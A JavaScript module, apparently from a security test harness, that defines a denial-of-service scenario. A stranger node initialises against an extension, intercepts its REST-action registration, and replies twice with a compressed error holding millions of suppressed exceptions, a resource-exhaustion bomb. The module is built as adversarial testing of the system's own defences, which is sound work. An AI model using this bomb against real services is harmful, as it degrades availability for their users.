import { initialiseFields, suppressedBomb, bombBytes } from '../harness/bombs.mjs';
import { request, response, STATUS } from '../harness/wire.mjs';

export const attack = {
  what: 'A stranger initialises an extension and answers its registration with one compressed error of millions of suppressed exceptions.',
  like: 'nested and repeated structures in JSON and XML parsers',
  victim: { role: 'extension' },
  prepare: async (attacker) => ({
    initialise: request('internal:discovery/extensions', await initialiseFields(attacker.folder), { id: 7 }),
    bomb: suppressedBomb(bombBytes(attacker)),
  }),
  run: (attacker, { initialise, bomb }) =>
    attacker.repeat(2, async () => {
      const socket = await attacker.dialAsNode();
      if (socket === null) return null;
      const registration = socket.frame(({ action }) => action?.includes('registerrestactions'));
      await socket.send(initialise);
      const found = await registration;
      if (found !== null) await socket.send(response(found.id, bomb, STATUS.error | STATUS.compressed));
      await attacker.sleep(500);
      socket.close();
    }),
};
